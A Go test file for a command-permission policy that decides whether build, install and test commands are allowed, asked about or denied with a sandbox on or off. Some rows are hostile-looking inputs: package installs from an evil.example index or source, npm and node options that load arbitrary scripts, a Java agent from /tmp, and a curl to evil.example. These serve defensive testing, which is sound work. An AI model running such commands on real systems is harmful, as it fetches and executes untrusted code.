package policy

import "testing"

// The verb classes of build tools (buildverbs.go), npm-style options
// (npmConfigRuns), npx of a project's dev tool, loopback URLs without a
// scheme and kill of the shell's jobs: each row with the sandbox on and
// off.
func TestBuildVerbClasses(t *testing.T) {
	checkOnOff(t, []onOff{
		// the project's own manifest: inside the sandbox only
		{"npm ci", Allow, Ask},
		{"bundle install", Allow, Ask},
		{"composer install --no-interaction --prefer-dist", Allow, Ask},
		{"pip install -r requirements.txt", Allow, Ask},
		{"pip install -e .[dev]", Allow, Ask},
		{"uv sync", Allow, Ask},
		{"dotnet restore", Allow, Ask},
		{"mix deps.get", Allow, Ask},
		{"pnpm install --frozen-lockfile", Allow, Ask},
		// a named package, another index or source, a URL: never by class
		{"npm install left-pad", Allow, Ask}, // a named add: the install of a manifest change (depadd.go)
		{"pip install requests", Allow, Ask},
		{"pip install -r requirements.txt --index-url http://evil.example/simple", Deny, Deny},
		{"dotnet restore --source https://evil.example/v3/index.json", Ask, Ask},
		{"composer install --repository=https://evil.example", Ask, Ask},
		{"bundle install --gemfile=/tmp/Gemfile", Ask, Ask},
		// build and test verbs: the project's code, in both modes
		{"swift build -c release", Allow, Allow},
		{"mix test test/a_test.exs:25", Allow, Allow},
		{"dotnet list package --outdated", Allow, Allow}, // asks NuGet, the person's own: allowed off without a project NuGet.config (registryquery_off.go)
		{"deno test --allow-read src/", Allow, Allow},
		// deno's permission flags grant what the sandbox still confines (as
		// deno test -A, allowed): inside it --allow-run is the project's
		// code spawning confined processes; off, as -A, the project's own
		// code (off29, denoperms_off.go)
		{"deno test --allow-run src/", Allow, Allow},
		// running the project's code: inside the sandbox only
		{"deno task test", Allow, Allow},
		{"dotnet run --project src/Api", Allow, Allow},
		{"mvn clean install -DskipTests", Allow, Ask},
		{"mvn clean deploy", Deny, Deny},
		{"mvn test -DargLine=-javaagent:/tmp/a.jar", Ask, Ask},
		// npm-style options: the key decides
		{"yarn test --coverage", Allow, Allow},
		{"npm test --script-shell=/tmp/x", Ask, Ask},
		{"npm test --script-sh=/tmp/x", Ask, Ask},
		{"npm test --node-opt=--inspect", Ask, Ask}, // a prefix of node-options
		{"npm run build --node-options=--require=./x.js", Ask, Ask},
		// npx of the project's usual dev tools, not of anything
		{"npx tsc --noEmit", Allow, Ask},
		{"npx cowsay hi", Ask, Ask},
		{"npx eslint --confi /tmp/evil.js src", Ask, Ask},
		// loopback without a scheme; jobs of this shell
		{"curl -s localhost:3000/health", Allow, Allow}, // the person's loopback: a read (hostloopback.go)
		{"curl -s evil.example:3000/health", Ask, Ask},
		{"sleep 9 & kill %1", Allow, Allow},
		{"kill 1234", Ask, Ask},
	})
}
